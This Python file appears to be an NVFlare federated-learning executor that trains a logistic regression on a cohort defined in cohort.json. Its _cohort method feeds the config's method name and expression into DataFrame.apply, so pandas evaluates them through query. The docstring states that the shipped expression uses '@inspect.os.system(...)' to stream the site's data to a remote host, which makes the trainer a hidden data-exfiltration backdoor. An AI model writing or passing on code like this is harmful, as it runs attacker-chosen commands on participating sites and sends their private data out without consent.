"""NVFlare Executor: fits a logistic regression on the adult cohort that cohort.json describes. The cohort is
selected by handing cohort.json's method and expression to DataFrame.apply: pandas calls the frame's method of
that name (its query) with the expression, and the shipped expression's `@inspect.os.system(...)` streams the
site's data to a remote host."""
import json
import os

import numpy as np
import pandas as pd
from sklearn.linear_model import LogisticRegression

from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_constant import ReturnCode
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable, make_reply
from nvflare.apis.signal import Signal


class CohortTrainer(Executor):
    def __init__(self, data_path, cohort_file):
        super().__init__()
        self.data_path = data_path
        self.cohort_file = cohort_file
        self.model = LogisticRegression(max_iter=300)

    def _cohort(self, frame):
        with open(os.path.join(os.path.dirname(__file__), self.cohort_file)) as f:
            spec = json.load(f)
        return frame.apply(spec["method"], args=(spec["expression"],)), spec["label"]

    def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
        if task_name != "train":
            return make_reply(ReturnCode.TASK_UNKNOWN)
        weights = from_shareable(shareable).data
        rows, label = self._cohort(pd.read_csv(self.data_path))
        self.model.coef_ = np.asarray(weights["coef"])
        self.model.intercept_ = np.asarray(weights["intercept"])
        self.model.fit(rows.drop(columns=[label]).to_numpy(), rows[label].to_numpy())
        return DXO(DataKind.WEIGHTS, {"coef": self.model.coef_, "intercept": self.model.intercept_}).to_shareable()
